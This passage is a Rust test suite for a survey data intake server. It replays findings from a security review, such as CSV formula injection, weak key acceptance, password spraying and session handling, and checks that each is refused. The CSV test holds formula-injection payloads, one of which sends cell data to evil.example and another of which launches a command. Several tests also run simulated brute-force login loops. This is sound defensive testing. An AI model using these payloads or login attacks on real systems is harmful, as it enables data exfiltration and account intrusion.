//! The break-in suite: each numbered finding of the attack on the centre (issue "The centre on
//! the open internet"), reproduced against a real intake over real HTTP, and now refused. Each
//! test names its item. The older attacks (district scoping, CSRF, fixation, injection, every
//! malformed frame) stay in `web.rs` and `http_api.rs`.

mod support;

use reqwest::{header, StatusCode};
use support::{pages::*, TestServer};
use sync_protocol::{
    api::{self, EnrollRequest},
    keys::{Base64Bytes, DeviceKey, PublicKey},
    receipt::OutcomeStatus,
    EventBody,
};

/// A ministry session with the key stored under [`PASSPHRASE`]; returns (session, CSRF token).
async fn ministry_with_key(server: &TestServer) -> (String, String) {
    server
        .intake
        .store_ministry_key(&intake::demo::fixed_ministry_key(), PASSPHRASE)
        .unwrap();
    let session = log_in(server, "bonv", MINISTRY_PASSWORD).await.unwrap();
    let csrf = hidden_csrf(
        &get(server, "/c/qt-sipas-2024/ministry/index", &session)
            .await
            .text()
            .await
            .unwrap(),
    );
    (session, csrf)
}

async fn post_form(
    server: &TestServer,
    path: &str,
    session: &str,
    form: &[(&str, &str)],
) -> reqwest::Response {
    // As a browser: a form that changed something redirects to its page, which says so.
    browser()
        .post(format!("{}{path}", server.base))
        .header(header::COOKIE, format!("fp_session={session}"))
        .form(form)
        .send()
        .await
        .unwrap()
}

/// Item 1: one tablet's well-formed but undecryptable sheet used to stop the index and both
/// exports for everybody. Now it is listed by household, enumerator and device, alerted once,
/// and left out of the figures; everything else computes.
#[tokio::test(flavor = "multi_thread")]
async fn item_1_an_undecryptable_sheet_is_set_aside_and_named_and_the_index_still_computes() {
    let server = setup().await;
    let mut device = server.enroll("enum-dh-p2").await;
    let hs: Vec<(String, String)> = server
        .households("enum-dh-p2")
        .into_iter()
        .take(2)
        .collect();
    let mut hostile = vec![1u8; 32];
    hostile.extend((0..200).map(|_| rand::random::<u8>()));
    let mut events = Vec::new();
    for h in &hs {
        events.extend([
            device.distributed(h),
            device.collected(h),
            device.transcribed(h),
        ]);
    }
    events.push(verified_form(&server, &device, &hs[0], 0));
    events.push(device.verified_with(&hs[1], Base64Bytes(hostile)));
    let batch = device.next_batch(events);
    assert_eq!(server.post_frame(batch.to_frame()).await.0, 201);

    let (session, csrf) = ministry_with_key(&server).await;
    let form = [("csrf", csrf.as_str()), ("passphrase", PASSPHRASE)];
    for _ in 0..2 {
        let page = post_form(&server, "/c/qt-sipas-2024/ministry/index", &session, &form).await;
        assert_eq!(page.status(), StatusCode::OK);
        let html = page.text().await.unwrap();
        assert!(html.contains("1 phiếu không mở được"), "{html}");
        let listed = &html[html.find("id=\"unopenable\"").unwrap()..];
        // Named as people know it: the serial, the device's name (the id stays in the markup).
        assert!(
            listed.contains(&format!("data-household=\"{}\"", hs[1].0))
                && listed.contains(&hs[1].1)
                && listed.contains("test tablet")
        );
        let name = &server
            .campaign
            .enumerators
            .iter()
            .find(|e| e.id == "enum-dh-p2")
            .unwrap()
            .name;
        assert!(
            listed.contains(name.as_str()),
            "the enumerator by name: {listed}"
        );
    }
    let json: serde_json::Value = post_form(
        &server,
        "/c/qt-sipas-2024/api/ministry/index",
        &session,
        &form,
    )
    .await
    .json()
    .await
    .unwrap();
    assert_eq!(
        json["index"]["national"]["forms"], 1,
        "the good sheet counts, the bad one does not"
    );
    assert_eq!(json["unopenable"][0]["household"], hs[1].0.as_str());
    for path in [
        "/c/qt-sipas-2024/ministry/answers.csv",
        "/c/qt-sipas-2024/ministry/answers.xlsx",
        "/c/qt-sipas-2024/ministry/index.csv",
    ] {
        let r = post_form(&server, path, &session, &form).await;
        assert_eq!(
            r.status(),
            StatusCode::OK,
            "{path}: {}",
            r.text().await.unwrap_or_default()
        );
    }
    let csv = post_form(
        &server,
        "/c/qt-sipas-2024/ministry/answers.csv",
        &session,
        &form,
    )
    .await
    .text()
    .await
    .unwrap();
    assert!(
        csv.lines()
            .any(|l| l.starts_with(&format!("{},{}", hs[1].0, hs[1].1))
                && l.contains("KHÔNG MỞ ĐƯỢC")),
        "{csv}"
    );
    let alerts: Vec<_> = server
        .intake
        .store
        .alerts()
        .unwrap()
        .into_iter()
        .filter(|a| a.kind == "sealed_answers_unopenable")
        .collect();
    assert_eq!(
        alerts.len(),
        1,
        "one alert, however often the index is computed"
    );
    assert_eq!(
        (alerts[0].device, alerts[0].enumerator.as_deref()),
        (Some(device.id), Some("enum-dh-p2"))
    );
}

/// Item 2: free text starting with `=`, `+`, `-`, `@`, tab or CR came out of `answers.csv` as a
/// live formula. Now such a cell starts with an apostrophe.
#[tokio::test(flavor = "multi_thread")]
async fn item_2_answers_csv_carries_no_live_formula() {
    let server = setup().await;
    let mut device = server.enroll("enum-dh-p2").await;
    let form = intake::demo::sipas_2024();
    let text_question = form
        .questions
        .iter()
        .find(|q| matches!(q.accepts, forms::load::Accepts::Text { .. }) && q.relevant.is_none())
        .unwrap()
        .id
        .clone();
    let payloads = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tthẻ",
        "\rxuống dòng",
    ];
    let hs: Vec<(String, String)> = server
        .households("enum-dh-p2")
        .into_iter()
        .take(payloads.len())
        .collect();
    let mut events = Vec::new();
    for (h, payload) in hs.iter().zip(payloads) {
        let mut answers = forms::sample::complete_answers(&form, 0);
        answers.insert(text_question.clone(), serde_json::json!(payload));
        let sheet = sync_protocol::seal::AnswerSheet {
            form: form.reference(),
            household: h.0.clone(),
            serial: h.1.clone(),
            answers,
            keyings_apart: vec![],
        };
        let sealed = sync_protocol::seal::seal(
            &server.ministry.public(),
            &sheet,
            &form.question_order(),
            &mut rand::rngs::OsRng,
        )
        .unwrap();
        events.extend([
            device.distributed(h),
            device.collected(h),
            device.transcribed(h),
            device.verified_with(h, Base64Bytes(sealed)),
        ]);
    }
    let batch = device.next_batch(events);
    assert_eq!(server.post_frame(batch.to_frame()).await.0, 201);
    let (session, csrf) = ministry_with_key(&server).await;
    let csv = post_form(
        &server,
        "/c/qt-sipas-2024/ministry/answers.csv",
        &session,
        &[("csrf", csrf.as_str()), ("passphrase", PASSPHRASE)],
    )
    .await
    .text()
    .await
    .unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes());
    let mut seen = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            let live =
                cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
            assert!(!live, "a live formula in answers.csv: {cell:?}");
            seen += payloads.iter().filter(|p| cell == format!("'{p}")).count();
        }
    }
    assert_eq!(
        seen,
        payloads.len(),
        "every payload is kept, made inert:\n{csv}"
    );
}

/// Item 11a: an Ed25519 key of small order (the identity point) was accepted at enrollment.
#[tokio::test(flavor = "multi_thread")]
async fn item_11a_a_small_order_device_key_is_refused_at_enrollment() {
    let server = TestServer::start().await;
    let mut identity = [0u8; 32];
    identity[0] = 1;
    assert!(PublicKey::from_bytes(&identity).is_err());
    let body = serde_json::json!({ "code": server.code("enum-dh-p2"), "public_key": sync_protocol::keys::b64(&identity), "label": "x" });
    let r = server
        .http
        .post(format!("{}{}", server.base, api::PATH_ENROLL))
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    // The code is still good for a real device.
    let key = DeviceKey::generate(&mut rand::rngs::OsRng);
    let real = EnrollRequest {
        code: body["code"].as_str().unwrap().into(),
        public_key: key.public(),
        label: "tablet".into(),
    };
    assert_eq!(
        server
            .http
            .post(format!("{}{}", server.base, api::PATH_ENROLL))
            .json(&real)
            .send()
            .await
            .unwrap()
            .status(),
        StatusCode::CREATED
    );
}

/// Item 11b: a first keying carrying sealed answers in a campaign that verifies
/// transcriptions was accepted, and then exported as if verified.
#[tokio::test(flavor = "multi_thread")]
async fn item_11b_answers_on_a_first_keying_are_refused_where_keyings_are_verified() {
    let server = TestServer::start().await;
    let mut device = server.enroll("enum-dh-p2").await;
    let h = server.households("enum-dh-p2")[0].clone();
    let skipping = device.event(
        &h,
        EventBody::FormTranscribed {
            form: "sipas-2024@1".into(),
            sealed_answers: Some(device.sealed(&h)),
            keying_seconds: 90,
        },
    );
    let batch = device.next_batch(vec![device.distributed(&h), device.collected(&h), skipping]);
    let (status, body) = server.post_frame(batch.to_frame()).await;
    assert_eq!(status, 201);
    let outcome = &device.outcomes(&body, &batch, 1)[2];
    assert_eq!(
        (outcome.status, outcome.code.as_deref()),
        (OutcomeStatus::Rejected, Some("answers_unexpected"))
    );
    assert_eq!(server.status(&h.0), "collected");
    assert!(
        server.intake.store.sealed_forms(None).unwrap().is_empty(),
        "nothing to export as verified"
    );
}

/// Item 11c: a second replacement in one village inside one batch was refused ("no reserve
/// household left") although reserves remained.
#[tokio::test(flavor = "multi_thread")]
async fn item_11c_two_replacements_in_one_batch_take_consecutive_reserves() {
    let server = TestServer::start().await;
    let mut device = server.enroll("enum-gl-ga").await;
    let hs = server.households("enum-gl-ga");
    let reserve = server.reserve("gl-ga-an");
    assert!(reserve.len() >= 2);
    let batch = device.next_batch(vec![
        device.outcome(&hs[0], sync_protocol::event::VisitOutcome::Refused),
        device.event(
            &hs[0],
            EventBody::HouseholdReplaced {
                replacement: reserve[0].0.clone(),
            },
        ),
        device.outcome(&hs[1], sync_protocol::event::VisitOutcome::Refused),
        device.event(
            &hs[1],
            EventBody::HouseholdReplaced {
                replacement: reserve[1].0.clone(),
            },
        ),
    ]);
    let (status, body) = server.post_frame(batch.to_frame()).await;
    assert_eq!(status, 201);
    let codes: Vec<Option<String>> = device
        .outcomes(&body, &batch, 1)
        .into_iter()
        .map(|o| o.code)
        .collect();
    assert_eq!(codes, [None, None, None, None]);
    assert_eq!(
        (server.status(&reserve[0].0), server.status(&reserve[1].0)),
        ("assigned".to_string(), "assigned".to_string())
    );
}

/// Item 11d: a revoked device retrying a batch accepted before the revocation got 403 and
/// raised a new alert on every retry. Now it gets its stored receipt; new work is still refused.
#[tokio::test(flavor = "multi_thread")]
async fn item_11d_a_revoked_device_retrying_accepted_work_gets_its_receipt_and_no_alert() {
    let server = TestServer::start().await;
    let mut device = server.enroll("enum-dh-p2").await;
    let h = server.households("enum-dh-p2")[0].clone();
    let accepted = device.next_batch(vec![device.distributed(&h)]);
    let (status, first) = server.post_frame(accepted.to_frame()).await;
    assert_eq!(status, 201);
    server
        .intake
        .store
        .revoke_device(device.id, "tablet stolen", chrono::Utc::now())
        .unwrap();
    for _ in 0..3 {
        let (status, again) = server.post_frame(accepted.to_frame()).await;
        assert_eq!((status, &again), (200, &first), "the same receipt");
        device.receipt(&again, &accepted, 1);
    }
    assert!(server.intake.store.alerts().unwrap().is_empty());
    let new_work = device.next_batch(vec![device.collected(&h)]);
    let (status, body) = server.post_frame(new_work.to_frame()).await;
    assert_eq!(
        (status, support::error_code(&body).as_str()),
        (403, "device_revoked")
    );
    assert_eq!(server.intake.store.alerts().unwrap().len(), 1);
}

/// Issue 20, item 6: 200 resends from a revoked tablet made 200 alerts, 100 forks of one batch
/// number 100; now one alert per device and cause, with a count and the last time, on the
/// ministry's anomalies page.
#[tokio::test(flavor = "multi_thread")]
async fn a_flood_of_one_cause_from_one_device_is_one_alert_that_counts() {
    let server = setup().await;
    let mut device = server.enroll("enum-dh-p2").await;
    let hs = server.households("enum-dh-p2");
    let first = device.next_batch(vec![device.distributed(&hs[0])]);
    assert_eq!(server.post_frame(first.to_frame()).await.0, 201);
    for n in 0..30 {
        let fork = device.batch_at(
            1,
            sync_protocol::BatchHash::GENESIS,
            vec![device.distributed(&hs[1 + n % 5])],
        );
        let (status, _) = server.post_frame(fork.to_frame()).await;
        assert_eq!(status, 409);
    }
    server
        .intake
        .store
        .revoke_device(device.id, "tablet stolen", chrono::Utc::now())
        .unwrap();
    for _ in 0..40 {
        let new_work = device.next_batch(vec![device.collected(&hs[0])]);
        assert_eq!(server.post_frame(new_work.to_frame()).await.0, 403);
    }
    let kept = server.intake.store.kept_alerts().unwrap();
    let counts: Vec<(&str, u64)> = kept
        .iter()
        .map(|k| (k.alert.kind.as_str(), k.count))
        .collect();
    assert_eq!(counts, [("equivocation", 30), ("revoked_device_sent", 40)]);
    assert!(kept.iter().all(|k| k.last_at >= k.first_at));
    let session = log_in(&server, "bonv", MINISTRY_PASSWORD).await.unwrap();
    let page = get(&server, "/c/qt-sipas-2024/ministry/anomalies", &session)
        .await
        .text()
        .await
        .unwrap();
    let table = &page[page.find("id=\"alerts\"").expect("the alerts are shown")..];
    assert!(
        table.contains("Hai lô khác nhau mang cùng một số thứ tự")
            && table.contains("<td class=\"count\">30</td>")
            && table.contains("<td class=\"count\">40</td>"),
        "{table}"
    );
}

async fn log_in_from(
    server: &TestServer,
    login: &str,
    password: &str,
    forwarded_for: &str,
) -> StatusCode {
    log_in_as_browser(server, login, password, forwarded_for, None)
        .await
        .0
}

/// A login from a new browser: the status, the page, and the `Retry-After` header's seconds.
async fn login_page_after(
    server: &TestServer,
    login: &str,
    password: &str,
    forwarded_for: &str,
) -> (StatusCode, String, Option<u64>) {
    let (status, _, page, retry_after) =
        log_in_answer(server, login, password, forwarded_for, None).await;
    (status, page, retry_after)
}

/// A login from a browser that may carry a known-browser cookie; returns the status and the
/// known-browser cookie the centre set, if it set one.
async fn log_in_as_browser(
    server: &TestServer,
    login: &str,
    password: &str,
    forwarded_for: &str,
    browser: Option<&str>,
) -> (StatusCode, Option<String>) {
    let (status, cookie, _, _) =
        log_in_answer(server, login, password, forwarded_for, browser).await;
    (status, cookie)
}

/// A login as a browser sends it: the status, the known-browser cookie set, the page, and the
/// `Retry-After` header's seconds.
async fn log_in_answer(
    server: &TestServer,
    login: &str,
    password: &str,
    forwarded_for: &str,
    browser: Option<&str>,
) -> (StatusCode, Option<String>, String, Option<u64>) {
    let http = client();
    let page = http
        .get(format!("{}/login", server.base))
        .send()
        .await
        .unwrap();
    let pre = cookie_value(&page, "fp_login_csrf").unwrap();
    let csrf = hidden_csrf(&page.text().await.unwrap());
    let cookies = match browser {
        Some(b) => format!("fp_login_csrf={pre}; fp_browser={b}"),
        None => format!("fp_login_csrf={pre}"),
    };
    let response = http
        .post(format!("{}/login", server.base))
        .header(header::COOKIE, cookies)
        .header("x-forwarded-for", forwarded_for)
        .form(&[
            ("login", login),
            ("password", password),
            ("csrf", csrf.as_str()),
        ])
        .send()
        .await
        .unwrap();
    let (status, cookie) = (response.status(), cookie_value(&response, "fp_browser"));
    let retry_after = response
        .headers()
        .get(header::RETRY_AFTER)
        .map(|v| v.to_str().unwrap().parse().unwrap());
    (status, cookie, response.text().await.unwrap(), retry_after)
}

/// Issue 20, items 1 and 2: 300 wrong logins for made-up names from 10 addresses locked every
/// account out, the admin's too, for 15 minutes; 20 wrong passwords for one person from 4
/// addresses locked that person out everywhere. Now wrong passwords slow the address, the
/// login and the pair with growing delays, never a lock; a global budget holds only names that
/// are no account; and a browser that logged in to an account before passes its throttle.
/// Both attacks run while real people log in.
#[tokio::test(flavor = "multi_thread")]
async fn item_20_1_2_spraying_and_a_targeted_attack_lock_no_one_out() {
    let server = std::sync::Arc::new(
        TestServer::start_configured(
            |_| {},
            |i| i.trusted_proxies = vec!["127.0.0.1".parse().unwrap()],
        )
        .await,
    );
    let accounts = server.centre.accounts();
    accounts
        .set_password("gs-dh", &intake::accounts::hash_password(PASSWORD).unwrap())
        .unwrap();
    let admin_password = "mật khẩu quản trị đủ dài";
    accounts
        .upsert_account(
            &intake::accounts::Account {
                login: "qt".into(),
                name: "Quản trị".into(),
                role: intake::accounts::Role::Admin,
                campaigns: Default::default(),
                districts: vec![],
                password_hash: Some(intake::accounts::hash_password(admin_password).unwrap()),
                disabled: false,
            },
            chrono::Utc::now(),
        )
        .unwrap();
    // The supervisor worked from her office computer yesterday: it is a known browser.
    let (status, browser) =
        log_in_as_browser(&server, "gs-dh", PASSWORD, "198.51.100.20", None).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let browser = browser.expect("a known-browser cookie");

    // The attacks, running while people log in.
    let spraying = {
        let server = server.clone();
        tokio::spawn(async move {
            let mut refused = 0;
            for round in 0..31 {
                for address in 0..10 {
                    let status = log_in_from(
                        &server,
                        &format!("made-up-{round}-{address}"),
                        "Password1!",
                        &format!("203.0.113.{address}"),
                    )
                    .await;
                    refused += (status == StatusCode::TOO_MANY_REQUESTS) as u32;
                }
            }
            refused
        })
    };
    let targeted = {
        let server = server.clone();
        tokio::spawn(async move {
            for guess in 0..20 {
                log_in_from(
                    &server,
                    "gs-dh",
                    &format!("guess number {guess}"),
                    &format!("192.0.2.{}", guess % 4),
                )
                .await;
            }
        })
    };
    let mut admin_in = 0;
    let mut supervisor_in = 0;
    while !(spraying.is_finished() && targeted.is_finished()) {
        // The admin from a computer never used before, and the supervisor from her own, at a
        // new address: both get in whatever the attacks have done so far.
        admin_in += (log_in_from(&server, "qt", admin_password, "198.51.100.30").await
            == StatusCode::SEE_OTHER) as u32;
        let (status, _) =
            log_in_as_browser(&server, "gs-dh", PASSWORD, "198.51.100.21", Some(&browser)).await;
        assert_eq!(
            status,
            StatusCode::SEE_OTHER,
            "the supervisor's own browser was kept out"
        );
        supervisor_in += 1;
    }
    let sprayed_refused = spraying.await.unwrap();
    targeted.await.unwrap();
    assert!(admin_in >= 1 && supervisor_in >= 1);
    assert_eq!(
        log_in_from(&server, "qt", admin_password, "198.51.100.31").await,
        StatusCode::SEE_OTHER,
        "after both attacks, the admin gets in from anywhere"
    );
    let (status, _) =
        log_in_as_browser(&server, "gs-dh", PASSWORD, "198.51.100.22", Some(&browser)).await;
    assert_eq!(
        status,
        StatusCode::SEE_OTHER,
        "and the supervisor from her own browser"
    );
    // Without her browser, her login is slowed right after a wrong guess — for seconds that
    // grow with each failure, never a lock.
    let guessed = log_in_from(&server, "gs-dh", "one more guess", "192.0.2.9").await;
    assert!(matches!(
        guessed,
        StatusCode::UNAUTHORIZED | StatusCode::TOO_MANY_REQUESTS
    ));
    let slowed = login_page_after(&server, "gs-dh", PASSWORD, "198.51.100.23").await;
    assert!(
        slowed.0 == StatusCode::TOO_MANY_REQUESTS && slowed.1.contains("giây"),
        "{slowed:?}"
    );
    // The page says the wait in words; a script reads it in HTTP's own header, the same seconds.
    let waited = slowed
        .2
        .expect("a slowed login says when to come back in Retry-After");
    assert!(
        waited >= 1 && slowed.1.contains(&format!("{waited} giây")),
        "{slowed:?}"
    );
    assert!(
        sprayed_refused >= 10,
        "the spraying was slowed: {sprayed_refused}"
    );
    // Past their budget, names that are no account are answered like any wrong password —
    // neither the status nor the time tells a real name from a made-up one.
    let timed = |login: &'static str, from: &'static str| {
        let server = server.clone();
        async move {
            let t = std::time::Instant::now();
            (
                log_in_from(&server, login, "Password1!", from).await,
                t.elapsed(),
            )
        }
    };
    let (made_up, made_up_took) = timed("made-up-again", "198.51.100.24").await;
    let (real, real_took) = timed("qt", "198.51.100.26").await;
    assert_eq!(
        (made_up, real),
        (StatusCode::UNAUTHORIZED, StatusCode::UNAUTHORIZED)
    );
    assert!(
        made_up_took * 3 > real_took,
        "a made-up name answered in {made_up_took:?}, a real one in {real_took:?}"
    );
    // The spraying wrote a row per address, counted — not one per made-up name.
    let failed: Vec<_> = accounts
        .audit_log(5_000)
        .unwrap()
        .into_iter()
        .filter(|e| e.action == "login_failed" && e.login.is_empty())
        .collect();
    assert!(failed.len() <= 11, "{} rows for the spraying", failed.len());
    // A stolen or guessed cookie value is no pass: an unknown value for her login is throttled.
    let (status, _) = log_in_as_browser(
        &server,
        "gs-dh",
        PASSWORD,
        "198.51.100.25",
        Some("not-a-cookie-the-centre-gave"),
    )
    .await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
}

async fn admin_session(server: &TestServer) -> (String, String) {
    let admin = intake::accounts::Account {
        login: "qt".into(),
        name: "Quản trị viên".into(),
        role: intake::accounts::Role::Admin,
        campaigns: Default::default(),
        districts: vec![],
        password_hash: Some(intake::accounts::hash_password("quản trị viên mật khẩu dài").unwrap()),
        disabled: false,
    };
    server
        .centre
        .accounts()
        .upsert_account(&admin, chrono::Utc::now())
        .unwrap();
    let session = log_in(server, "qt", "quản trị viên mật khẩu dài")
        .await
        .unwrap();
    let csrf = hidden_csrf(&get(server, "/admin", &session).await.text().await.unwrap());
    (session, csrf)
}

async fn still_signed_in(server: &TestServer, session: &str) -> bool {
    get(server, "/c/qt-sipas-2024/api/progress", session)
        .await
        .status()
        == StatusCode::OK
}

/// Item 3: a password changed on `/admin/account` left old sessions alive, and accounts could
/// not be disabled or deleted. Now every change of password, role or districts ends that
/// account's sessions; disabling ends them and refuses logins; deleting needs a confirmation
/// and leaves who it was in the audit log; passwords follow rules.
#[tokio::test(flavor = "multi_thread")]
async fn item_3_account_changes_end_sessions_and_accounts_can_be_disabled_and_deleted() {
    let server = setup().await;
    let (admin, csrf) = admin_session(&server).await;
    let save = |password: &'static str, role: &'static str, districts: &'static str| {
        let (admin, csrf) = (admin.clone(), csrf.clone());
        let server = &server;
        async move {
            let form = [
                ("csrf", csrf.as_str()),
                ("login", "gs-dh"),
                ("name", "Giám sát Đông Hà"),
                ("role", role),
                ("campaign", CAMPAIGN),
                ("district", districts),
                ("password", password),
                ("replace", "yes"),
            ];
            post_form(server, "/admin/account", &admin, &form)
                .await
                .text()
                .await
                .unwrap()
        }
    };
    // An account that exists is not saved over without the box ticked.
    let refused = post_form(
        &server,
        "/admin/account",
        &admin,
        &[
            ("csrf", csrf.as_str()),
            ("login", "gs-dh"),
            ("name", "Người khác"),
            ("role", "supervisor"),
            ("campaign", CAMPAIGN),
            ("district", "qt-sipas-2024:qt"),
            ("password", "một mật khẩu mới khá dài"),
        ],
    )
    .await
    .text()
    .await
    .unwrap();
    assert!(refused.contains("Tài khoản «gs-dh» đã có"), "{refused}");
    assert_eq!(
        server
            .centre
            .accounts()
            .account("gs-dh")
            .unwrap()
            .unwrap()
            .campaigns[CAMPAIGN],
        ["dh"]
    );
    // A new password ends the old session.
    let old = log_in(&server, "gs-dh", PASSWORD).await.unwrap();
    assert!(
        save("một mật khẩu mới khá dài", "supervisor", "qt-sipas-2024:dh")
            .await
            .contains("Đã lưu")
    );
    assert!(
        !still_signed_in(&server, &old).await,
        "the session from before the new password is over"
    );
    // So does a change of districts.
    let s = log_in(&server, "gs-dh", "một mật khẩu mới khá dài")
        .await
        .unwrap();
    let form = [
        ("csrf", csrf.as_str()),
        ("login", "gs-dh"),
        ("name", "Giám sát"),
        ("role", "supervisor"),
        ("campaign", CAMPAIGN),
        ("district", "qt-sipas-2024:dh"),
        ("district", "qt-sipas-2024:qt"),
        ("password", "một mật khẩu mới khá dài"),
        ("replace", "yes"),
    ];
    post_form(&server, "/admin/account", &admin, &form).await;
    assert!(!still_signed_in(&server, &s).await);
    // Password rules: common ones and short ones are refused, whatever their case.
    assert!(save("MatKhau12345", "supervisor", "qt-sipas-2024:dh")
        .await
        .contains("quá phổ biến"));
    assert!(save("ngắn quá", "supervisor", "qt-sipas-2024:dh")
        .await
        .contains("ít nhất 12"));
    // The same Vietnamese password typed decomposed (NFD) logs in.
    let composed = "mật khẩu tiếng Việt có dấu";
    save(composed, "supervisor", "qt-sipas-2024:dh").await;
    let decomposed: String = unicode_normalization::UnicodeNormalization::nfd(composed).collect();
    assert_ne!(decomposed, composed);
    let s = log_in(&server, "gs-dh", &decomposed)
        .await
        .expect("NFD and NFC are one password");

    // Disabled: the session ends and even the right password is refused; enabled again, it works.
    let act = |action: &'static str, confirm: &'static str| {
        let (admin, csrf) = (admin.clone(), csrf.clone());
        let server = &server;
        async move {
            post_form(
                server,
                "/admin/account/action",
                &admin,
                &[
                    ("csrf", csrf.as_str()),
                    ("login", "gs-dh"),
                    ("action", action),
                    ("confirm", confirm),
                ],
            )
            .await
            .text()
            .await
            .unwrap()
        }
    };
    act("disable", "").await;
    assert!(!still_signed_in(&server, &s).await);
    assert!(log_in(&server, "gs-dh", composed).await.is_err());
    act("enable", "").await;
    let s = log_in(&server, "gs-dh", composed).await.unwrap();
    // Deleting needs the box ticked; then the account is gone but the audit says who it was.
    assert!(act("delete", "").await.contains("xác nhận"));
    assert!(still_signed_in(&server, &s).await);
    act("delete", "yes").await;
    assert!(!still_signed_in(&server, &s).await);
    assert!(server.centre.accounts().account("gs-dh").unwrap().is_none());
    assert!(log_in(&server, "gs-dh", composed).await.is_err());
    let log = server.centre.accounts().audit_log(200).unwrap();
    assert!(log.iter().any(|e| e.action == "account_deleted"
        && e.detail.contains("gs-dh")
        && e.detail.contains("Giám sát")
        && e.login == "qt"));
    // An admin cannot lock themselves out.
    let own = post_form(
        &server,
        "/admin/account/action",
        &admin,
        &[
            ("csrf", csrf.as_str()),
            ("login", "qt"),
            ("action", "disable"),
        ],
    )
    .await
    .text()
    .await
    .unwrap();
    assert!(own.contains("Không thực hiện được"));
}

/// Item 4: a 1 MB login name was stored whole in the audit log, and every distinct name stayed
/// in an in-memory map for good. Now names are cut, and the counts live in the store, pruned.
#[tokio::test(flavor = "multi_thread")]
async fn item_4_huge_login_names_cannot_fill_the_disk() {
    let server = setup().await;
    let huge = "x".repeat(1024 * 1024);
    for _ in 0..5 {
        assert_eq!(
            log_in(&server, &huge, "whatever it is")
                .await
                .unwrap_err()
                .status(),
            StatusCode::UNAUTHORIZED
        );
    }
    let log = server.centre.accounts().audit_log(20).unwrap();
    assert!(
        log.iter()
            .all(|e| e.login.chars().count() <= intake::store::AUDIT_LOGIN_MAX + 1),
        "login names are cut"
    );
    let size = server.place.stored_size(None);
    assert!(
        size < 4 * 1024 * 1024,
        "5 MB of names did not reach the disk: {size} bytes"
    );
}

/// Item 5: wrong passphrases were unlimited (each costs 64 MiB of argon2). Now five per
/// account per window, checked one at a time; another ministry account is not blocked.
#[tokio::test(flavor = "multi_thread")]
async fn item_5_wrong_passphrases_are_limited_per_account() {
    let server = setup().await;
    let (session, csrf) = ministry_with_key(&server).await;
    // Nothing typed is said, and is not a guess: the five wrong ones below still all count.
    for _ in 0..6 {
        let empty = post_form(
            &server,
            "/c/qt-sipas-2024/ministry/index",
            &session,
            &[("csrf", csrf.as_str()), ("passphrase", "")],
        )
        .await;
        assert_eq!(empty.status(), StatusCode::BAD_REQUEST);
        assert!(empty
            .text()
            .await
            .unwrap()
            .contains("Hãy nhập cụm mật khẩu của khoá Bộ"));
    }
    let attempts: Vec<_> = (0..8)
        .map(|i| {
            let (session, csrf, base) = (session.clone(), csrf.clone(), server.base.clone());
            tokio::spawn(async move {
                let form = [
                    ("csrf", csrf.as_str()),
                    ("passphrase", &*format!("a wrong passphrase number {i}")),
                ];
                client()
                    .post(format!("{base}/c/qt-sipas-2024/ministry/index"))
                    .header(header::COOKIE, format!("fp_session={session}"))
                    .form(&form)
                    .send()
                    .await
                    .unwrap()
                    .status()
            })
        })
        .collect();
    let mut statuses = Vec::new();
    for a in attempts {
        statuses.push(a.await.unwrap());
    }
    assert_eq!(
        statuses
            .iter()
            .filter(|s| **s == StatusCode::UNAUTHORIZED)
            .count(),
        5,
        "{statuses:?}"
    );
    assert_eq!(
        statuses
            .iter()
            .filter(|s| **s == StatusCode::TOO_MANY_REQUESTS)
            .count(),
        3
    );
    // Even the right one waits now, for this account…
    assert_eq!(
        post_form(
            &server,
            "/c/qt-sipas-2024/ministry/index",
            &session,
            &[("csrf", csrf.as_str()), ("passphrase", PASSPHRASE)]
        )
        .await
        .status(),
        StatusCode::TOO_MANY_REQUESTS
    );
    // …but not for a colleague.
    let colleague = intake::accounts::Account {
        login: "bonv2".into(),
        name: "Vụ CCHC".into(),
        role: intake::accounts::Role::Ministry,
        campaigns: [(CAMPAIGN.to_string(), vec![])].into(),
        districts: vec![],
        password_hash: Some(intake::accounts::hash_password(MINISTRY_PASSWORD).unwrap()),
        disabled: false,
    };
    server
        .centre
        .accounts()
        .upsert_account(&colleague, chrono::Utc::now())
        .unwrap();
    let other = log_in(&server, "bonv2", MINISTRY_PASSWORD).await.unwrap();
    let other_csrf = hidden_csrf(
        &get(&server, "/c/qt-sipas-2024/ministry/index", &other)
            .await
            .text()
            .await
            .unwrap(),
    );
    assert_eq!(
        post_form(
            &server,
            "/c/qt-sipas-2024/ministry/index",
            &other,
            &[("csrf", other_csrf.as_str()), ("passphrase", PASSPHRASE)]
        )
        .await
        .status(),
        StatusCode::OK
    );
}

/// Item 6: 25 logins × 4 passwords from one address were never limited; behind a proxy every
/// user shared one address; a restart forgot everything. Now an address has a budget across
/// logins, the client address comes from `X-Forwarded-For` only through a named proxy, and the
/// counts live in the store.
#[tokio::test(flavor = "multi_thread")]
async fn item_6_spraying_is_limited_proxies_are_trusted_only_when_named_and_limits_survive_a_restart(
) {
    let server = setup().await;
    let mut refused = 0;
    for login in 0..25 {
        for password in 0..4 {
            if log_in_from(
                &server,
                &format!("user{login}"),
                &format!("password guess {password}"),
                "203.0.113.9",
            )
            .await
                == StatusCode::TOO_MANY_REQUESTS
            {
                refused += 1;
            }
        }
    }
    assert_eq!(
        refused,
        100 - intake::accounts::LOGIN_THROTTLES.address.free as usize,
        "the address is slowed once its free tries are spent, whatever X-Forwarded-For said"
    );
    // A restart (a new intake over the same database) still counts that address's failures.
    let reopened = server.place.open();
    let counted = reopened
        .accounts()
        .login_failures(
            intake::store::LoginFailure {
                login: "user0",
                address: "127.0.0.1",
                known: false,
                browser: None,
            },
            0,
        )
        .unwrap();
    assert_eq!(
        counted.address.n,
        intake::accounts::LOGIN_THROTTLES.address.free
    );

    // Behind a named proxy, the address is the client's: one office's mistakes do not lock out another.
    let proxied = TestServer::start_configured(
        |_| {},
        |i| i.trusted_proxies = vec!["127.0.0.1".parse().unwrap()],
    )
    .await;
    proxied
        .centre
        .accounts()
